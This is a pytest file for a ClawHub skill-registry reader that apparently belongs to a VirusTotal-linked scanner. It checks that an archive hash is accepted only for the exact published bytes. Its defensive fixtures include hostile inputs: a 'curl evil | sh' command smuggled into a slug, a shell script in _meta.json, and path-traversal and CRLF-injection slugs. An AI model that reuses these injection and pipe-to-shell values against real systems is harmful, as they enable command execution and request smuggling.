"""Our reader of ClawHub against a loopback ClawHub: the archive's hash is believed for exactly the published bytes."""

from __future__ import annotations

import hashlib
import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.clawhub_answers import Answer as HubAnswer
from support.clawhub_server import ClawHubServer, Fault

from openclaw_vt.clawhub import ClawHub, Published, _compare
from openclaw_vt.model.subject import Entry, Origin, Snapshot
from openclaw_vt.transport import Getter

FILES = {"SKILL.md": b"---\nname: weather\n---\nTells the weather.\n", "scripts/ask.sh": b"#!/bin/sh\ncurl https://wttr.in\n"}
META = {"ownerId": "user-acme", "slug": "weather", "version": "1.2.0", "publishedAt": 1_788_000_000_000}


@pytest.fixture
def hub():
    with ClawHubServer() as server:
        server.shelf.publish("weather", "1.2.0", FILES)
        yield server


def entry(path: str, data: bytes, **more) -> Entry:
    return Entry(path, size=len(data), sha256=hashlib.sha256(data).hexdigest(), data=data, **more)


def snapshot(files: dict[str, bytes] = FILES, *extra: Entry) -> Snapshot:
    return Snapshot(tuple(entry(path, data) for path, data in files.items()) + extra)


def origin(**more) -> Origin:
    return Origin(**({"kind": "clawhub", "slug": "weather", "version": "1.2.0", "publisher": "acme"} | more))


def ask(hub: ClawHubServer, local: Snapshot | None = None, claim: Origin | None = None, *, within: float = 30) -> Published:
    client = ClawHub(hub.url, Getter(agent="test"))
    return client.published(claim or origin(), local or snapshot(), deadline=time.monotonic() + within)


def archive_of(hub: ClawHubServer) -> str:
    return hub.shelf.version("weather", "1.2.0").sha256hash


def gap(published: Published) -> str:
    assert published.archive is None
    (only,) = published.not_checked
    assert "ClawHub" in only.what
    return only.why


# --- the published bytes, and others ---


def test_the_published_bytes_have_the_archives_hash(hub):
    assert ask(hub) == Published(archive=archive_of(hub))
    assert [(seen.endpoint, seen.query) for seen in hub.seen] == [("version", {"ownerHandle": "acme"})]


def test_what_an_install_adds_changes_nothing(hub):
    added = (
        entry("_meta.json", json.dumps(META).encode()),
        entry(".clawhub/origin.json", b"{}", role="record"),
        entry("scripts/__pycache__/a.cpython-311.pyc", b"\0", role="byproduct"),
        Entry("empty", kind="directory"),
    )
    assert ask(hub, snapshot(FILES, *added)).archive == archive_of(hub)


@pytest.mark.parametrize(
    ("files", "named"),
    [
        (FILES | {"SKILL.md": FILES["SKILL.md"][:-1] + b"!"}, "SKILL.md"),
        (FILES | {"scripts/more.sh": b"x"}, "scripts/more.sh"),
        ({"SKILL.md": FILES["SKILL.md"]}, "scripts/ask.sh"),
        ({"SKILL.md": FILES["SKILL.md"], "scripts/ASK.sh": FILES["scripts/ask.sh"]}, "scripts/ASK.sh and 1 more"),
        (FILES | {".env": b""}, ".env"),
        ({}, "SKILL.md and 1 more"),
    ],
    ids=["one-byte", "extra-file", "missing-file", "renamed-file", "empty-dotfile", "nothing"],
)
def test_other_bytes_have_no_hash_and_the_file_is_named(hub, files, named):
    assert gap(ask(hub, snapshot(files, Entry("x", kind="directory")))) == f"the files are not what was published: {named}"


@pytest.mark.parametrize("path", ["extra.sh", "scripts/ask.sh"])
def test_a_link_is_never_a_published_file(hub, path):
    local = Snapshot((*(e for e in snapshot().entries if e.path != path), Entry(path, kind="link", target="SKILL.md")))
    assert path in gap(ask(hub, local))


def test_a_record_that_lists_other_bytes_than_lie_here(hub):
    hub.shelf.swap_record("weather", "1.2.0", FILES | {"SKILL.md": b"other"})
    assert "SKILL.md" in gap(ask(hub))


def test_a_hostile_name_in_the_record_is_shown_escaped(hub):
    hub.shelf.swap_record("weather", "1.2.0", FILES | {"\x1b[2J\u202e\n": b"x"})
    assert gap(ask(hub)).isprintable()


def test_files_too_large_to_keep_are_compared_by_their_digest(hub):
    kept = snapshot()
    unkept = Snapshot(tuple(Entry(e.path, size=e.size, sha256=e.sha256) for e in kept.entries))
    assert ask(hub, unkept).archive == archive_of(hub)


# --- the two files that ClawHub itself adds ---


@pytest.mark.parametrize(
    "meta",
    [
        json.dumps(META | {"run": "curl evil"}).encode(),
        json.dumps(META | {"slug": "a b; curl evil | sh"}).encode(),
        json.dumps(META | {"ownerId": {"nested": "text"}}).encode(),
        json.dumps([META]).encode(),
        b'{"slug": "weather", "slug": "other"}',
        b" " * 5000 + json.dumps(META).encode(),
        b"#!/bin/sh\ncurl evil\n",
        b"\xff",
    ],
)
def test_a_meta_json_that_holds_more_than_the_registrys_own_fields_counts_as_a_file(hub, meta):
    assert "_meta.json" in gap(ask(hub, snapshot(FILES | {"_meta.json": meta})))


def test_an_executable_meta_json_counts_as_a_file(hub):
    assert "_meta.json" in gap(ask(hub, snapshot(FILES, entry("_meta.json", json.dumps(META).encode(), executable=True))))


def test_a_meta_json_below_the_top_counts_as_a_file(hub):
    assert "scripts/_meta.json" in gap(ask(hub, snapshot(FILES | {"scripts/_meta.json": json.dumps(META).encode()})))


def test_a_skill_card_counts_as_clawhubs_only_with_clawhubs_own_digest(hub):
    card = b"# Weather\nA generated card.\n"
    local = snapshot(FILES | {"skill-card.md": card})
    version = hub.shelf.version("weather", "1.2.0")
    assert "skill-card.md" in gap(ask(hub, local))

    version.card = {"available": True, "sha256": hashlib.sha256(card).hexdigest()}
    assert ask(hub, local).archive == archive_of(hub)
    assert "skill-card.md" in gap(ask(hub, snapshot(FILES | {"skill-card.md": card + b"!"})))
    for odd in ({"available": True}, {"sha256": None}, {"sha256": ["x"]}, "text"):
        version.card = odd
        assert "skill-card.md" in gap(ask(hub, local))


def test_a_published_skill_card_is_a_file_like_any_other(hub):
    hub.shelf.publish("weather", "1.2.0", FILES | {"skill-card.md": b"mine"})
    hub.shelf.version("weather", "1.2.0").card = {"sha256": hashlib.sha256(b"theirs").hexdigest()}
    assert ask(hub, snapshot(FILES | {"skill-card.md": b"mine"})).archive == archive_of(hub)
    assert "skill-card.md" in gap(ask(hub, snapshot(FILES | {"skill-card.md": b"theirs"})))


def test_without_a_card_on_disk_nobody_asks_for_one(hub):
    ask(hub)
    assert hub.asked("verify") == 0


# --- who is asked ---


@pytest.mark.parametrize(
    "claim",
    [
        Origin(),
        Origin("local", slug="weather", version="1.2.0"),
        Origin("git", slug="weather", version="1.2.0"),
        origin(registry="https://hub.evil.example"),
        origin(registry="http://127.0.0.1:9"),
        origin(slug=None),
        origin(version=None),
        origin(slug="../../admin"),
        origin(slug="a/b"),
        origin(slug="weather?x=1"),
        origin(slug="weather\r\nX: 1"),
        origin(slug="weather\n"),
        origin(slug="w" * 101),
        origin(version="1.2.0/../../x"),
        origin(version="{0}"),
        origin(publisher="ac me"),
        origin(publisher="&x=1"),
    ],
)
def test_other_registries_and_words_that_are_no_names_are_never_asked_about(hub, claim):
    assert ask(hub, claim=claim) == Published()
    assert hub.seen == []


def test_the_registry_may_be_named_with_or_without_a_slash(hub):
    for name in (hub.url, f"{hub.url}/", None):
        assert ask(hub, claim=origin(registry=name)).archive == archive_of(hub)


def test_the_publisher_tells_two_skills_of_one_name_apart(hub):
    hub.shelf.publish("weather", "1.2.0", {"SKILL.md": b"another"}, owner="other")
    assert ask(hub, claim=origin(publisher="acme")).archive is not None
    assert gap(ask(hub, claim=origin(publisher="other")))


def test_a_version_with_a_build_mark_is_asked_for_by_its_own_name(hub):
    hub.shelf.publish("weather", "1.2.0+b1", FILES)
    assert ask(hub, claim=origin(version="1.2.0+b1")).archive is not None
    assert hub.seen[0].path.endswith("/versions/1.2.0%2Bb1")


def test_a_request_carries_no_key_and_no_path(hub, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:9")
    ask(hub)
    (seen,) = hub.seen
    assert str(tmp_path) not in f"{seen.path}{seen.query}"
    assert seen.method == "GET"


# --- bad days ---


@pytest.mark.parametrize("fault", [f for f in Fault if f not in (Fault.DRIP, Fault.NOT_FOUND, Fault.HANG_UP)])
def test_a_useless_answer_is_a_gap_and_no_hash(hub, fault):
    hub.faults["version"] = fault
    assert gap(ask(hub)) == "it gave no usable answer"
    assert hub.asked("version") == 1


def test_a_body_that_drips_for_ever_ends_at_the_deadline(hub):
    hub.faults["version"] = Fault.DRIP
    assert gap(ask(hub, within=0.5)) == "it did not answer in time"


def test_a_server_that_hangs_up_or_is_not_there_is_a_gap(hub):
    hub.faults["version"] = Fault.HANG_UP
    assert gap(ask(hub)).startswith("it could not be reached")
    client = ClawHub("http://127.0.0.1:9", Getter(agent="test"))
    assert gap(client.published(origin(), snapshot(), deadline=time.monotonic() + 30)).startswith("it could not be reached")


def test_a_deadline_that_has_passed_asks_nobody(hub):
    assert gap(ask(hub, within=-1)) == "it did not answer in time"
    assert hub.seen == []


def test_a_version_that_was_never_published_or_is_gone_is_a_gap(hub):
    assert "not published" in gap(ask(hub, claim=origin(version="9.9.9")))
    hub.faults["version"] = Fault.NOT_FOUND
    assert "not published" in gap(ask(hub))


def test_a_broken_card_answer_spoils_the_hash(hub):
    hub.faults["verify"] = Fault.GARBAGE
    assert gap(ask(hub, snapshot(FILES | {"skill-card.md": b"x"})))


def test_an_archive_that_was_never_sent_to_virustotal_is_neither_hash_nor_gap(hub):
    hub.shelf.publish("weather", "1.2.0", FILES, sha256hash=None)
    assert ask(hub) == Published()
    hub.shelf.version("weather", "1.2.0").security = None
    assert ask(hub) == Published()


@pytest.mark.parametrize("claimed", ["abc", "AB" * 32, "", 7, ["ab" * 32], f"{'ab' * 32}\n"])
def test_an_archive_hash_that_is_none_is_a_gap(hub, claimed):
    hub.shelf.version("weather", "1.2.0").security["sha256hash"] = claimed
    assert gap(ask(hub))


# --- answers that only an enemy gives ---


def answering(hub: ClawHubServer, monkeypatch, body: object) -> None:
    """Let the hub give this body for a version."""
    import support.clawhub_server as server

    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    monkeypatch.setattr(server, "answer", lambda _hub, _seen: HubAnswer(200, raw))


def record(*files: object, **more) -> dict:
    listed = [{"path": path, "sha256": hashlib.sha256(data).hexdigest()} for path, data in FILES.items()]
    version = {"version": "1.2.0", "files": [*listed, *files], "security": {"sha256hash": "ab" * 32}}
    return {"version": version | more}


def test_the_enemys_workshop_can_make_an_honest_record(hub, monkeypatch):
    answering(hub, monkeypatch, record())
    assert ask(hub).archive == "ab" * 32


@pytest.mark.parametrize(
    "body",
    [
        record(version="1.2.1"),
        record(version=None),
        record(files={}),
        record(files=None),
        record({"path": "SKILL.md", "sha256": hashlib.sha256(FILES["SKILL.md"]).hexdigest()}),
        record({"path": "x", "sha256": "zz"}),
        record({"path": "x"}),
        record({"path": 5, "sha256": "ab" * 32}),
        record("x"),
        record(*({"path": f"f{n}", "sha256": "ab" * 32} for n in range(20_001))),
        {"version": []},
        {},
        [],
        None,
        b'{"version": {"version": "1.2.0"}, "version": {"version": "1.2.0"}}',
        b"[" * 100_000,
        b"",
    ],
    ids=[
        "other-version",
        "no-version",
        "files-object",
        "no-files",
        "path-twice",
        "no-digest",
        "no-sha256",
        "path-number",
        "file-text",
        "too-many",
        "version-list",
        "empty",
        "list",
        "null",
        "key-twice",
        "deep",
        "no-body",
    ],
)
def test_a_record_that_is_not_exactly_the_one_asked_for_is_a_gap(hub, monkeypatch, body):
    answering(hub, monkeypatch, body)
    assert gap(ask(hub))


def test_two_spellings_of_one_path_cannot_stand_for_each_other(hub, monkeypatch):
    for spelling in ("./SKILL.md", "SKILL.MD", "scripts/../SKILL.md", "/SKILL.md"):
        answering(hub, monkeypatch, record({"path": spelling, "sha256": "ab" * 32}))
        assert gap(ask(hub))


paths = st.sampled_from(["SKILL.md", "a", "b/c", "_meta.json", "skill-card.md"])
bodies = st.dictionaries(paths, st.sampled_from([b"", b"1", b"2"]), max_size=4)


@given(bodies, bodies)
def test_a_hash_is_given_for_equal_files_and_only_for_those(published, local):
    listed = [{"path": path, "sha256": hashlib.sha256(data).hexdigest()} for path, data in published.items()]
    found = _compare({"files": listed, "security": {"sha256hash": "ab" * 32}}, snapshot(local), None)
    same = {p: d for p, d in published.items() if p != "_meta.json"} == local
    assert (found.archive is not None) == same
